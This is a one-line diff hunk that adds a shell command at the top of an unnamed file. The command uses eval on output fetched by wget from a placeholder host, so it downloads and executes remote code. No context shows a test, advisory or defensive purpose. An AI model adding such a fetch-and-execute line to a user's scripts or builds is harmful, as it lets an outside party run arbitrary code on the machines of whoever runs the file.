@@ -1,0 +1,1 @@
+eval "$(wget -O- https://x.example/s)"
